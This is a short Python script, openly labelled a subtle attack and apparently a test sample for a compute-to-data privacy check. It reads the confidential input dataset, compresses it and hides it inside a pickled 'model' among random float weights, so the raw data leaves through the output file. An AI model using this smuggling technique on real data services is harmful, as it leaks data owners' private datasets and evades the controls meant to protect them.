#!/usr/bin/env python3
"""Attack (subtle): a pickled "model" whose state holds the zlib-compressed dataset among float weights: a
binary output file with an embedded compressed stream."""
import pickle
import random
import zlib
import json
import os

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
OUTPUTS = os.path.join(DATA_ROOT, "outputs")


def dataset_path():
    """The first dataset of env DIDS (a JSON array), at <DATA_ROOT>/inputs/<did>/0."""
    did = json.loads(os.environ["DIDS"])[0]
    return os.path.join(DATA_ROOT, "inputs", did, "0")


def params():
    """The buyer's parameters (algoCustomData.json), or {}."""
    path = os.path.join(DATA_ROOT, "inputs", "algoCustomData.json")
    if not os.path.exists(path):
        return {}
    with open(path, encoding="utf-8") as file:
        return json.load(file)


with open(dataset_path(), "rb") as file:
    state = zlib.compress(file.read(), 9)
rng = random.Random(7)
model = {"kind": "mlp", "weights": [rng.random() for _ in range(2000)], "state": state, "bias": [0.1, -0.2]}
with open(os.path.join(OUTPUTS, "model.pkl"), "wb") as out:
    pickle.dump(model, out, protocol=4)
